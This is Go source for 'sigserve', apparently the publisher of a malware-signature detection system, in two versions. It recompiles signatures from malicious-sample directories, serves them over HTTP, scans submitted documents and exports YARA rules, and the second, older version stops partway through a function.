	certSeed := fs.Int64("certseed", defaultCertSeed, "schedule-permutation seed for the verification path")
	verdictCap := fs.Int("verdictcache", verdictcache.DefaultCapacity, "capacity of the fleet-shared verdict cache served on /verdicts (0 = default)")
	verdictKey := fs.String("verdictkey", "", "HMAC key required on /verdicts writes (share with gateway replicas via -verdictkey); empty accepts unauthenticated writes, safe only on an isolated replica network")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *storePath == "" {
		return fmt.Errorf("-store is required")
	}
	if *samplesDir != "" && *knownDir == "" {
		return fmt.Errorf("-known is required with -samples")
	}
	if *samplesDir == "" && (*shards != "" || *cacheDir != "" || *fanout != 0 || *dispatch != "stream") {
		return fmt.Errorf("-shards/-dispatch/-fanout/-cachedir require -samples")
	}
	if *dispatch != "stream" && *dispatch != "batch" {
		return fmt.Errorf("-dispatch %q must be stream or batch", *dispatch)
	}
	if *fanout < 0 {
		return fmt.Errorf("-fanout %d must be >= 0", *fanout)
	}
	if *certify && *samplesDir == "" {
		return fmt.Errorf("-certify requires -samples")
	}
	profiles, err := parseProfiles(*profileFlag)
	if err != nil {
		return err
	}
	if *samplesDir == "" && *profileFlag != "js" {
		return fmt.Errorf("-profile requires -samples")
	}
	if *yaraPath != "" && *samplesDir == "" {
		return fmt.Errorf("-yara requires -samples")
	}
	if !*certify && (*certKey != "" || *certVerify != "inprocess" || *certSeed != defaultCertSeed) {
		return fmt.Errorf("-certkey/-certverify/-certseed require -certify")
	}

	store, err := sigdb.Open(*storePath)
	if err != nil {
		return err
	}
	if *certKey != "" {
		store.SetCertKey([]byte(*certKey))
	}

	shardURLs, err := parseShardURLs(*shards)
	if err != nil {
		return err
	}

	var pub *publisher
	if *samplesDir != "" {
		primary := pathSpec{shardURLs: shardURLs, dispatch: *dispatch, fanout: *fanout, profiles: profiles}
		var cert *certConfig
		if *certify {
			vspec, err := verifyPathSpec(primary, *certVerify, *certSeed)
			if err != nil {
				return err
			}
			cert = &certConfig{verify: vspec}
			log.Printf("certifying publishes: primary %s, verify %s",
				primary.descriptor(), vspec.descriptor())
		}
		pub, err = newPublisher(store, *samplesDir, *knownDir, *cacheDir, primary, cert)
		if err != nil {
			return err
		}
		pub.yaraPath = *yaraPath
		if _, err := pub.recompile(); err != nil {
			// A quarantined first compile is an operational condition, not a
			// startup failure: the store keeps serving whatever version it
			// already holds while the operator investigates the audit log.
			if !errors.Is(err, errQuarantined) {
				return fmt.Errorf("initial compile: %w", err)
			}
			log.Printf("initial compile: %v", err)
		}
	}

	scans := &scanHandler{store: store}
	verdicts := verdictcache.New(*verdictCap)
	mux := http.NewServeMux()
	mux.Handle("/signatures", store.Handler())
	mux.Handle("/signatures/watch", store.WatchHandler())
	mux.Handle("/attest", store.AttestHandler())
	mux.Handle("/scan", scans)
	mux.Handle("/verdicts", verdictcache.Handler(verdicts, []byte(*verdictKey)))
	mux.HandleFunc("/healthz", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "ok v%d\n", store.Version())
	})
	mux.Handle("/metrics", servemetrics.Handler(func() map[string]any {
		out := map[string]any{
			"store_version": store.Version(),
			"scan":          scans.metrics(),
			"verdict_cache": verdicts.Metrics(),
			"runtime":       servemetrics.RuntimeStats(),
		}
		if pub != nil {
			out["publisher"] = pub.metrics()
		}
		return out
	}))

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	loopDone := make(chan struct{})
	if pub != nil && ready == nil {
		go func() {
			defer close(loopDone)
			ticker := time.NewTicker(*recompile)
			defer ticker.Stop()
			for {
				select {
				case <-ctx.Done():
					return
				case <-ticker.C:
				}
				if _, err := pub.recompile(); err != nil {
					log.Printf("recompile: %v", err)
					continue
				}
			}
		}()
	} else {
		close(loopDone)
	}

	if ready != nil {
		ready <- mux
		cancel()
		<-loopDone
		return nil
	}
	log.Printf("sigserve on %s (store %s, v%d)", *listen, *storePath, store.Version())
	err = http.ListenAndServe(*listen, mux)
	cancel()
	<-loopDone
	return err
}

// parseShardURLs splits the -shards flag. A non-empty value that yields
// no URLs is a configuration error, not a silent fallback to in-process
// clustering — the operator asked for a fleet and must learn they did
// not get one.
func parseShardURLs(shards string) ([]string, error) {
	if shards == "" {
		return nil, nil
	}
	var urls []string
	for _, u := range strings.Split(shards, ",") {
		if u = strings.TrimSpace(u); u != "" {
			urls = append(urls, u)
		}
	}
	if len(urls) == 0 {
		return nil, fmt.Errorf("-shards %q contains no worker URLs", shards)
	}
	return urls, nil
}

// parseProfiles splits and validates the -profile flag against the
// registered ingest profiles. Unknown names and duplicates are
// configuration errors — a typo must not silently drop a workload.
func parseProfiles(spec string) ([]string, error) {
	valid := make(map[string]bool)
	for _, id := range kizzle.Profiles() {
		valid[id] = true
	}
	seen := make(map[string]bool)
	var out []string
	for _, p := range strings.Split(spec, ",") {
		if p = strings.TrimSpace(p); p == "" {
			continue
		}
		if !valid[p] {
			return nil, fmt.Errorf("-profile %q: unknown ingest profile (registered: %s)",
				p, strings.Join(kizzle.Profiles(), ", "))
		}
		if seen[p] {
			return nil, fmt.Errorf("-profile lists %q twice", p)
		}
		seen[p] = true
		out = append(out, p)
	}
	if len(out) == 0 {
		return nil, fmt.Errorf("-profile %q contains no profiles", spec)
	}
	return out, nil
}

// defaultCertSeed is the default -certseed: an arbitrary nonzero value,
// so the verification path's schedule is permuted out of the box.
const defaultCertSeed = 1887

// publisher owns sigserve's recompilation loop. Each configured ingest
// profile gets one workload: a long-lived compiler whose content cache —
// clustering verdicts, unpack results, fingerprints, per-family label
// slices — stays warm across recompiles, so the steady state pays only
// for the day's novel content, plus its own sample/known directories.
// Every cycle compiles all workloads and lands their signatures as one
// publish, so a single sigdb version (and a single attestation) always
// covers the whole fleet's deployed set. Clustering optionally runs on a
// kizzleshard fleet. All methods are serialized by the caller (the
// recompile loop is a single goroutine).
type publisher struct {
	store     *sigdb.Store
	workloads []*workload
	// yaraPath, when set, receives the published set as a YARA ruleset on
	// every changed publish.
	yaraPath string

	// primary describes the main compile path; cert, when non-nil, holds
	// the certification setup (see certify.go).
	primary pathSpec
	cert    *certConfig

	// lastMu guards last for /metrics readers; recompile itself stays
	// single-goroutine.
	lastMu      sync.Mutex
	last        pubStats
	recompiles  atomic.Int64
	certified   atomic.Int64
	quarantined atomic.Int64
}

// workload is one ingest profile's slice of the publisher: its compiler,
// directories, and known-corpus sync state.
type workload struct {
	profile    string
	compiler   *kizzle.Compiler
	samplesDir string
	knownDir   string
	cacheDir   string
	// knownFiles tracks each known file's content digest — plus the size
	// and mtime observed alongside it — from the last sync. An untouched
	// directory skips seeding entirely (unchanged metadata skips even the
	// reads); any change (new, modified, or removed files) rebuilds the
	// corpus from the current files, so the corpus is always a pure
	// function of the directory — and since family generations are
	// content-derived, families whose files did not change keep their
	// generation and their cached label verdicts.
	knownFiles map[string]knownMeta
	// knownNames/knownBodies retain the last-read corpus (sorted seeding
	// order and contents), so the certification verifier can seed a fresh
	// compiler with exactly the corpus the primary holds — including on
	// idle ticks that never re-read the files.
	knownNames  []string
	knownBodies map[string]string
}

// familyLabel maps a known payload file name to the family name its
// matches publish under: the bare file-derived label for the default JS
// workload (wire back-compat), namespaced "profile/label" for every
// other workload so one store can carry both corpora without collisions.
func (w *workload) familyLabel(name string) string {
	fam := knownFamily(name)
	if fam == "" || w.profile == "js" {
		return fam
	}
	return w.profile + "/" + fam
}

// workloadRun is one workload's output within a recompile cycle.
type workloadRun struct {
	w            *workload
	samples      []kizzle.Sample
	res          *kizzle.Result
	knownChanged int
}

// metrics reports the publisher's /metrics fields: recompile count, the
// last cycle's aggregate outcome, and a per-workload breakdown so a
// mixed-profile fleet's operators can watch each corpus independently.
func (p *publisher) metrics() map[string]any {
	p.lastMu.Lock()
	last := p.last
	p.lastMu.Unlock()
	workloads := make(map[string]any, len(last.Workloads))
	for _, ws := range last.Workloads {
		workloads[ws.Profile] = map[string]any{
			"documents":     ws.Documents,
			"clusters":      ws.Compile.Clusters,
			"signatures":    ws.Signatures,
			"known_changed": ws.KnownChanged,
			"label_sweeps":  ws.Compile.LabelSweeps,
			"cache_misses":  ws.Compile.CacheMisses,
			"cache_hits":    ws.Compile.CacheHits,
		}
	}
	return map[string]any{
		"recompiles":         p.recompiles.Load(),
		"certified":          p.certified.Load(),
		"quarantined":        p.quarantined.Load(),
		"last_version":       last.Version,
		"last_changed":       last.Changed,
		"last_known_changed": last.KnownChanged,
		"last_signatures":    last.Signatures,
		"last_clusters":      last.Compile.Clusters,
		"last_label_sweeps":  last.Compile.LabelSweeps,
		"last_cache_misses":  last.Compile.CacheMisses,
		"last_cache_hits":    last.Compile.CacheHits,
		"workloads":          workloads,
	}
}

// knownMeta is one known file's sync record: the content digest that
// decides change, and the stat metadata that lets an idle tick skip
// re-reading the file to recompute it.
type knownMeta struct {
	digest  uint64
	size    int64
	modTime time.Time
}

// newPublisher builds one workload per configured profile (an empty
// profile list means the default JS workload, keeping pre-profile call
// sites and deployments unchanged) and, when cacheDir is set, restores
// each workload's cache snapshot so a restarted publisher keeps warm-day
// economics. With several profiles the sample/known/cache directories
// hold one subdirectory per profile.
func newPublisher(store *sigdb.Store, samplesDir, knownDir, cacheDir string, primary pathSpec, cert *certConfig) (*publisher, error) {
	profiles := primary.profiles
	if len(profiles) == 0 {
		profiles = []string{"js"}
	}
	p := &publisher{store: store, primary: primary, cert: cert}
	multi := len(profiles) > 1
	for _, prof := range profiles {
		w := &workload{
			profile:    prof,
			samplesDir: samplesDir,
			knownDir:   knownDir,
			cacheDir:   cacheDir,
			knownFiles: make(map[string]knownMeta),
		}
		if multi {
			w.samplesDir = filepath.Join(samplesDir, prof)
			w.knownDir = filepath.Join(knownDir, prof)
			if cacheDir != "" {
				w.cacheDir = filepath.Join(cacheDir, prof)
			}
		}
		w.compiler = kizzle.New(primary.workloadOptions(prof)...)
		if w.cacheDir != "" {
			stats, err := w.compiler.LoadCache(w.cacheDir)
			if err != nil {
				return nil, fmt.Errorf("load cache (%s): %w", prof, err)
			}
			if stats.Entries > 0 || stats.CorruptSegments > 0 {
				log.Printf("cache (%s): restored %d entries from %s (%d corrupt segments skipped)",
					prof, stats.Entries, w.cacheDir, stats.CorruptSegments)
			}
		}
		p.workloads = append(p.workloads, w)
	}
	return p, nil
}

// pubStats summarizes one recompile for logging and tests. The top-level
// fields aggregate across workloads (a single-profile publisher reports
// exactly its one workload); Workloads carries the per-profile split.
type pubStats struct {
	Version int64
	Changed bool
	// KnownChanged counts known files that were new, modified, or removed
	// since the previous sync (0 means every corpus was left untouched).
	KnownChanged int
	Compile      kizzle.Stats
	Signatures   int
	Workloads    []workloadStats
}

// workloadStats is one workload's share of a recompile cycle.
type workloadStats struct {
	Profile      string
	Documents    int
	KnownChanged int
	Compile      kizzle.Stats
	Signatures   int
}

// addStats accumulates one workload's compile stats into the aggregate.
func addStats(dst *kizzle.Stats, s kizzle.Stats) {
	dst.Samples += s.Samples
	dst.UniqueSequences += s.UniqueSequences
	dst.Partitions += s.Partitions
	dst.Clusters += s.Clusters
	dst.MaliciousClusters += s.MaliciousClusters
	dst.LabelSweeps += s.LabelSweeps
	dst.CacheHits += s.CacheHits
	dst.CacheMisses += s.CacheMisses
	dst.WireBytes += s.WireBytes
	dst.EdgeWireBytes += s.EdgeWireBytes
}

// recompile runs one publishing cycle: for each workload, sync its known
// corpus (per-family incremental) and process its samples directory;
// then publish the concatenated signature set if it changed, export YARA
// when configured, and snapshot each workload's cache for restarts.
func (p *publisher) recompile() (pubStats, error) {
	var st pubStats
	runs := make([]workloadRun, 0, len(p.workloads))
	var allSigs []kizzle.Signature
	for _, w := range p.workloads {
		knownChanged, err := w.syncKnown()
		if err != nil {
			return st, err
		}
		samples, err := readSamples(w.samplesDir)
		if err != nil {
			return st, err
		}
		res, err := w.compiler.Process(samples)
		if err != nil {
			return st, err
		}
		st.KnownChanged += knownChanged
		addStats(&st.Compile, res.Stats)
		st.Signatures += len(res.Signatures)
		st.Workloads = append(st.Workloads, workloadStats{
			Profile:      w.profile,
			Documents:    len(samples),
			KnownChanged: knownChanged,
			Compile:      res.Stats,
			Signatures:   len(res.Signatures),
		})
		allSigs = append(allSigs, res.Signatures...)
		runs = append(runs, workloadRun{w: w, samples: samples, res: res, knownChanged: knownChanged})
	}
	var version int64
	var changed bool
	var err error
	if p.cert != nil {
		version, changed, err = p.certify(runs, allSigs)
	} else {
		version, changed, err = p.store.Publish(allSigs, nil)
	}
	if err != nil {
		// A quarantine still counts the cycle and snapshots the caches —
		// the primary compiles ran and may have warmed them legitimately.
		if errors.Is(err, errQuarantined) {
			p.recompiles.Add(1)
			p.snapshotCaches(runs)
		}
		return st, err
	}
	st.Version, st.Changed = version, changed
	if changed {
		log.Printf("published signature set v%d (%d signatures, %d clusters, %d label sweeps)",
			version, st.Signatures, st.Compile.Clusters, st.Compile.LabelSweeps)
	} else {
		log.Printf("signature set unchanged at v%d (%d label sweeps)", version, st.Compile.LabelSweeps)
	}
	if changed && p.yaraPath != "" {
		if werr := writeYARA(p.yaraPath, allSigs); werr != nil {
			// Losing one export costs the AV channel a day's freshness, not
			// the serving store its new version.
			log.Printf("yara export: %v", werr)
		}
	}
	p.snapshotCaches(runs)
	p.recompiles.Add(1)
	p.lastMu.Lock()
	p.last = st
	p.lastMu.Unlock()
	return st, nil
}

// snapshotCaches persists each workload's cache, but only when its cycle
// could have changed it: a fully-warm tick (no misses, no corpus change)
// would rewrite an identical snapshot — recurring I/O proportional to
// the cache budget for zero information. A failed snapshot costs the
// next restart warmth, not this process correctness.
func (p *publisher) snapshotCaches(runs []workloadRun) {
	for _, run := range runs {
		if run.w.cacheDir == "" || (run.res.Stats.CacheMisses == 0 && run.knownChanged == 0) {
			continue
		}
		if _, err := run.w.compiler.SaveCache(run.w.cacheDir); err != nil {
			log.Printf("save cache (%s): %v", run.w.profile, err)
		}
	}
}

// writeYARA renders the published set as a YARA ruleset and installs it
// atomically via rename, validating first so a malformed export never
// replaces a good file. An empty set writes nothing (there is no valid
// empty YARA ruleset).
func writeYARA(path string, sigs []kizzle.Signature) error {
	if len(sigs) == 0 {
		return nil
	}
	out := kizzle.ExportYARA(sigs)
	if err := kizzle.ValidateYARA(out); err != nil {
		return err
	}
	tmp := path + ".tmp"
	if err := os.WriteFile(tmp, []byte(out), 0o644); err != nil {
		return err
	}
	return os.Rename(tmp, path)
}

// syncKnown keeps the workload's corpus equal to its known directory's
// current contents. The file name up to the first '.' or '-' is the
// family label — namespaced by familyLabel for non-js workloads — so
// families can carry several payload files (angler.txt,
// angler-variant2.txt); hidden files are skipped. An unchanged directory
// is a no-op — and when no file's size or mtime moved either, the no-op
// is decided from stat metadata alone, so the steady-state tick never
// re-reads the payloads; content digests remain the change authority
// whenever metadata moves. Any change rebuilds the corpus from scratch
// in sorted file order — a modified file replaces its old payload (Add
// alone would keep the retracted content live) and a deleted file's
// payload goes away, while content-derived generations keep every
// untouched family's label cache warm through the rebuild. The return
// counts new, modified, and removed files.
func (w *workload) syncKnown() (changed int, err error) {
	entries, err := os.ReadDir(w.knownDir)
	if err != nil {
		return 0, fmt.Errorf("read known dir: %w", err)
	}
	names := make([]string, 0, len(entries))
	infos := make(map[string]os.FileInfo, len(entries))
	for _, e := range entries {
		if e.IsDir() || strings.HasPrefix(e.Name(), ".") {
			continue
		}
		info, err := e.Info()
		if err != nil {
			return 0, fmt.Errorf("stat known payload %s: %w", e.Name(), err)
		}
		names = append(names, e.Name())
		infos[e.Name()] = info
	}
	// Deterministic seeding order: corpus generations are content-derived
	// and order-sensitive within a family, so every rebuild — in this
	// process or a restarted one — must Add in the same order.
	sort.Strings(names)
	if len(names) == 0 {
		return 0, fmt.Errorf("no known payloads in %s", w.knownDir)
	}
	for _, name := range names {
		if knownFamily(name) == "" {
			// An empty label would collide with the corpus's "no match"
			// sentinel and silently suppress labeling; refuse loudly.
			return 0, fmt.Errorf("known payload %q yields an empty family label", name)
		}
	}
	if len(names) == len(w.knownFiles) {
		same := true
		for _, name := range names {
			prev, ok := w.knownFiles[name]
			info := infos[name]
			if !ok || info.Size() != prev.size || !info.ModTime().Equal(prev.modTime) {
				same = false
				break
			}
		}
		if same {
			return 0, nil
		}
	}
	bodies := make(map[string]string, len(names))
	current := make(map[string]knownMeta, len(names))
	for _, name := range names {
		body, err := os.ReadFile(filepath.Join(w.knownDir, name))
		if err != nil {
			return 0, err
		}
		bodies[name] = string(body)
		info := infos[name]
		current[name] = knownMeta{
			digest:  contentcache.Digest(string(body)),
			size:    info.Size(),
			modTime: info.ModTime(),
		}
	}
	for name, meta := range current {
		if prev, ok := w.knownFiles[name]; !ok || prev.digest != meta.digest {
			changed++
		}
	}
	for name := range w.knownFiles {
		if _, ok := current[name]; !ok {
			changed++ // removed
		}
	}
	// Record the observed metadata even when the contents did not change
	// (e.g. a touch), so the next idle tick can skip the reads again; the
	// retained names/bodies are what the certification verifier re-seeds
	// its fresh compiler from.
	w.knownFiles = current
	w.knownNames = names
	w.knownBodies = bodies
	if changed == 0 {
		return 0, nil
	}
	w.compiler.ResetKnown()
	for _, name := range names {
		w.compiler.AddKnown(w.familyLabel(name), bodies[name])
	}
	return changed, nil
}

// knownFamily derives the family label from a known payload file name:
// everything up to the first '.' or '-'.
func knownFamily(name string) string {
	cut := strings.IndexAny(name, ".-")
	if cut < 0 {
		cut = len(name)
	}
	return name[:cut]
}

// scanHandler serves POST /scan: consumers submit a batch of documents and
// get per-document verdicts from the currently published signature set.
// The compiled matcher is cached and only rebuilt when the store version
// moves; the rebuild itself is incremental per family (kizzle.MatcherCache),
// so a /signatures update that changes one family's signatures recompiles
// only that family instead of the whole deployed set — the publisher
// doubles as the bulk scanning service of the deployment channel.
type scanHandler struct {
	store *sigdb.Store

	mu       sync.Mutex
	version  int64
	matcher  *kizzle.Matcher
	compiled kizzle.MatcherCache

	// scanSem bounds concurrent batch scans: each ScanAll call spins up
	// its own GOMAXPROCS-sized worker pool, so unbounded concurrent
	// requests would oversubscribe the CPU and starve /signatures and
	// /healthz on the same publisher. Excess requests queue here.
	scanSemOnce sync.Once
	scanSem     chan struct{}

	requests      atomic.Int64
	docsScanned   atomic.Int64
	docsBlocked   atomic.Int64
	docsOversized atomic.Int64
	sigsCompiled  atomic.Int64
	sigsReused    atomic.Int64
	lat           servemetrics.Hist
}

// metrics reports the scan service's /metrics fields: request and
// document counters, batch-scan latency, the deployed matcher version,
// and what incremental rebuilds reused.
func (h *scanHandler) metrics() map[string]any {
	h.mu.Lock()
	version := h.version
	h.mu.Unlock()
	return map[string]any{
		"requests":            h.requests.Load(),
		"documents":           h.docsScanned.Load(),
		"blocked":             h.docsBlocked.Load(),
		"oversized":           h.docsOversized.Load(),
		"matcher_version":     version,
		"signatures_compiled": h.sigsCompiled.Load(),
		"signatures_reused":   h.sigsReused.Load(),
		"batch_scan_latency":  h.lat.Summary(),
	}
}

// maxScanRequestBytes caps one /scan request body: a day-scale batch of
// maximum-size documents without letting a single client OOM the
// publisher. Expressed in units of the fleet-wide per-document cap so
// the two bounds cannot drift apart again.
const maxScanRequestBytes = 16 * gateway.DefaultMaxScanBytes

// scanRequest is the /scan request body.
type scanRequest struct {
	Documents []string `json:"documents"`
}

// scanVerdict is one per-document result. Skipped, when non-empty,
// reports that the document was not scanned at all and why — a caller
// must be able to tell "scanned clean" from "never looked at" on the
// wire, not just from a server-side counter.
type scanVerdict struct {
	Blocked bool   `json:"blocked"`
	Family  string `json:"family,omitempty"`
	Skipped string `json:"skipped,omitempty"`
}

// scanResponse is the /scan response body.
type scanResponse struct {
	Version  int64         `json:"version"`
	Verdicts []scanVerdict `json:"verdicts"`
}

// current returns the matcher for the store's live version, recompiling
// only on version changes — and then only the families whose signatures
// actually changed.
func (h *scanHandler) current() (*kizzle.Matcher, int64, error) {
	snap := h.store.Snapshot()
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.matcher != nil && snap.Version == h.version {
		return h.matcher, h.version, nil
	}
	m, stats, err := h.compiled.Build(snap.Signatures)
	if err != nil {
		return nil, 0, err
	}
	h.sigsCompiled.Add(int64(stats.SignaturesCompiled))
	h.sigsReused.Add(int64(stats.SignaturesReused))
	if stats.FamiliesRecompiled > 0 || stats.FamiliesReused > 0 {
		log.Printf("matcher v%d: %d signatures compiled (%d families), %d reused (%d families)",
			snap.Version, stats.SignaturesCompiled, stats.FamiliesRecompiled,
			stats.SignaturesReused, stats.FamiliesReused)
	}
	h.matcher, h.version = m, snap.Version
	return m, h.version, nil
}

func (h *scanHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		http.Error(w, "POST required", http.StatusMethodNotAllowed)
		return
	}
	// Bound the request so one oversized batch cannot take down the
	// publisher the whole distribution channel depends on (mirrors the
	// proxy's MaxScanBytes per-document cap).
	r.Body = http.MaxBytesReader(w, r.Body, maxScanRequestBytes)
	var req scanRequest
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
		status := http.StatusBadRequest
		var tooLarge *http.MaxBytesError
		if errors.As(err, &tooLarge) {
			status = http.StatusRequestEntityTooLarge
		}
		http.Error(w, "bad request: "+err.Error(), status)
		return
	}
	m, version, err := h.current()
	if err != nil {
		http.Error(w, "signature set unavailable: "+err.Error(), http.StatusServiceUnavailable)
		return
	}
	h.scanSemOnce.Do(func() { h.scanSem = make(chan struct{}, 2) })
	h.scanSem <- struct{}{}
	defer func() { <-h.scanSem }()
	h.requests.Add(1)
	h.docsScanned.Add(int64(len(req.Documents)))
	start := time.Now()
	resp := scanResponse{Version: version, Verdicts: make([]scanVerdict, len(req.Documents))}
	// Apply the fleet-wide per-document cap exactly as the proxy does:
	// an oversized document passes through unscanned — never
	// truncated-and-scanned, which could vouch "clean" for content the
	// scan never saw — and its verdict says so, so batch clients can
	// distinguish "scanned clean" from "skipped oversized".
	docs := make([]string, 0, len(req.Documents))
	idx := make([]int, 0, len(req.Documents))
	for i, d := range req.Documents {
		if int64(len(d)) > gateway.DefaultMaxScanBytes {
			h.docsOversized.Add(1)
			resp.Verdicts[i] = scanVerdict{Skipped: "oversized"}
			continue
		}
		docs = append(docs, d)
		idx = append(idx, i)
	}
	for j, matches := range m.ScanAll(docs) {
		if len(matches) > 0 {
			resp.Verdicts[idx[j]] = scanVerdict{Blocked: true, Family: matches[0].Family}
			h.docsBlocked.Add(1)
		}
	}
	h.lat.Observe(time.Since(start))
	w.Header().Set("Content-Type", "application/json")
	if err := json.NewEncoder(w).Encode(resp); err != nil {
		log.Printf("scan: encode response: %v", err)
	}
}

func readSamples(dir string) ([]kizzle.Sample, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, fmt.Errorf("read samples dir: %w", err)
	}
	var out []kizzle.Sample
	for _, e := range entries {
		if e.IsDir() {
			continue
		}
		ext := strings.ToLower(filepath.Ext(e.Name()))
		if ext != ".html" && ext != ".htm" && ext != ".js" {
			continue
		}
		body, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			return nil, err
		}
		out = append(out, kizzle.Sample{ID: e.Name(), Content: string(body)})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	if len(out) == 0 {
		return nil, fmt.Errorf("no samples in %s", dir)
	}
	return out, nil
}
