// Command sigserve is the publisher side of the signature distribution
// channel: it serves a sigdb store over HTTP for kizzlegate (and any other
// consumer) to poll, and can optionally watch a samples directory and
// recompile signatures on an interval — the "signatures for malware
// variants observed the same day within a matter of hours" loop.
//
// Usage:
//
//	sigserve -store sigs.json -listen :9090 \
//	         [-samples corpus/ -known known/ -recompile 1h]
package main

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"log"
	"net/http"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"time"

	"kizzle"
	"kizzle/sigdb"
)

func main() {
	if err := run(os.Args[1:], nil); err != nil {
		fmt.Fprintln(os.Stderr, "sigserve:", err)
		os.Exit(1)
	}
}

// run configures the server. When ready is non-nil the handler is sent to
// it instead of binding a listener (test hook); recompilation still runs
// once synchronously so tests observe a populated store.
func run(args []string, ready chan<- http.Handler) error {
	fs := flag.NewFlagSet("sigserve", flag.ContinueOnError)
	storePath := fs.String("store", "", "sigdb JSON file to serve (required)")
	listen := fs.String("listen", ":9090", "address to serve on")
	samplesDir := fs.String("samples", "", "directory of samples to recompile from (optional)")
	knownDir := fs.String("known", "", "directory of known unpacked payloads (required with -samples)")
	recompile := fs.Duration("recompile", time.Hour, "recompilation interval")
	if err := fs.Parse(args); err != nil {
		return err
	}
	if *storePath == "" {
		return fmt.Errorf("-store is required")
	}
	if *samplesDir != "" && *knownDir == "" {
		return fmt.Errorf("-known is required with -samples")
	}

	store, err := sigdb.Open(*storePath)
	if err != nil {
		return err
	}

	if *samplesDir != "" {
		if err := compileInto(store, *samplesDir, *knownDir); err != nil {
			return fmt.Errorf("initial compile: %w", err)
		}
		log.Printf("compiled signature set v%d from %s", store.Version(), *samplesDir)
	}

	mux := http.NewServeMux()
	mux.Handle("/signatures", store.Handler())
	mux.Handle("/scan", &scanHandler{store: store})
	mux.HandleFunc("/healthz", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "ok v%d\n", store.Version())
	})

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	loopDone := make(chan struct{})
	if *samplesDir != "" && ready == nil {
		go func() {
			defer close(loopDone)
			ticker := time.NewTicker(*recompile)
			defer ticker.Stop()
			for {
				select {
				case <-ctx.Done():
					return
				case <-ticker.C:
				}
				if err := compileInto(store, *samplesDir, *knownDir); err != nil {
					log.Printf("recompile: %v", err)
					continue
				}
				log.Printf("published signature set v%d", store.Version())
			}
		}()
	} else {
		close(loopDone)
	}

	if ready != nil {
		ready <- mux
		cancel()
		<-loopDone
		return nil
	}
	log.Printf("sigserve on %s (store %s, v%d)", *listen, *storePath, store.Version())
	err = http.ListenAndServe(*listen, mux)
	cancel()
	<-loopDone
	return err
}

// scanHandler serves POST /scan: consumers submit a batch of documents and
// get per-document verdicts from the currently published signature set.
// The compiled matcher is cached and only rebuilt when the store version
// moves; the rebuild itself is incremental per family (kizzle.MatcherCache),
// so a /signatures update that changes one family's signatures recompiles
// only that family instead of the whole deployed set — the publisher
// doubles as the bulk scanning service of the deployment channel.
type scanHandler struct {
	store *sigdb.Store

	mu       sync.Mutex
	version  int64
	matcher  *kizzle.Matcher
	compiled kizzle.MatcherCache

	// scanSem bounds concurrent batch scans: each ScanAll call spins up
	// its own GOMAXPROCS-sized worker pool, so unbounded concurrent
	// requests would oversubscribe the CPU and starve /signatures and
	// /healthz on the same publisher. Excess requests queue here.
	scanSemOnce sync.Once
	scanSem     chan struct{}
}

// maxScanRequestBytes caps one /scan request body (64 MiB: a day-scale
// batch of 4 MiB documents without letting a single client OOM the
// publisher).
const maxScanRequestBytes = 64 << 20

// scanRequest is the /scan request body.
type scanRequest struct {
	Documents []string `json:"documents"`
}

// scanVerdict is one per-document result.
type scanVerdict struct {
	Blocked bool   `json:"blocked"`
	Family  string `json:"family,omitempty"`
}

// scanResponse is the /scan response body.
type scanResponse struct {
	Version  int64         `json:"version"`
	Verdicts []scanVerdict `json:"verdicts"`
}

// current returns the matcher for the store's live version, recompiling
// only on version changes — and then only the families whose signatures
// actually changed.
func (h *scanHandler) current() (*kizzle.Matcher, int64, error) {
	snap := h.store.Snapshot()
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.matcher != nil && snap.Version == h.version {
		return h.matcher, h.version, nil
	}
	m, stats, err := h.compiled.Build(snap.Signatures)
	if err != nil {
		return nil, 0, err
	}
	if stats.FamiliesRecompiled > 0 || stats.FamiliesReused > 0 {
		log.Printf("matcher v%d: %d signatures compiled (%d families), %d reused (%d families)",
			snap.Version, stats.SignaturesCompiled, stats.FamiliesRecompiled,
			stats.SignaturesReused, stats.FamiliesReused)
	}
	h.matcher, h.version = m, snap.Version
	return m, h.version, nil
}

func (h *scanHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		http.Error(w, "POST required", http.StatusMethodNotAllowed)
		return
	}
	// Bound the request so one oversized batch cannot take down the
	// publisher the whole distribution channel depends on (mirrors the
	// proxy's MaxScanBytes per-document cap).
	r.Body = http.MaxBytesReader(w, r.Body, maxScanRequestBytes)
	var req scanRequest
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
		status := http.StatusBadRequest
		var tooLarge *http.MaxBytesError
		if errors.As(err, &tooLarge) {
			status = http.StatusRequestEntityTooLarge
		}
		http.Error(w, "bad request: "+err.Error(), status)
		return
	}
	m, version, err := h.current()
	if err != nil {
		http.Error(w, "signature set unavailable: "+err.Error(), http.StatusServiceUnavailable)
		return
	}
	h.scanSemOnce.Do(func() { h.scanSem = make(chan struct{}, 2) })
	h.scanSem <- struct{}{}
	defer func() { <-h.scanSem }()
	resp := scanResponse{Version: version, Verdicts: make([]scanVerdict, len(req.Documents))}
	for i, matches := range m.ScanAll(req.Documents) {
		if len(matches) > 0 {
			resp.Verdicts[i] = scanVerdict{Blocked: true, Family: matches[0].Family}
		}
	}
	w.Header().Set("Content-Type", "application/json")
	if err := json.NewEncoder(w).Encode(resp); err != nil {
		log.Printf("scan: encode response: %v", err)
	}
}

// compileInto runs the compiler over the samples directory and publishes
// the resulting signatures to the store.
func compileInto(store *sigdb.Store, samplesDir, knownDir string) error {
	c := kizzle.New()
	if err := seedKnown(c, knownDir); err != nil {
		return err
	}
	samples, err := readSamples(samplesDir)
	if err != nil {
		return err
	}
	res, err := c.Process(samples)
	if err != nil {
		return err
	}
	if _, err := store.Replace(res.Signatures, nil); err != nil {
		return err
	}
	return nil
}

func seedKnown(c *kizzle.Compiler, dir string) error {
	entries, err := os.ReadDir(dir)
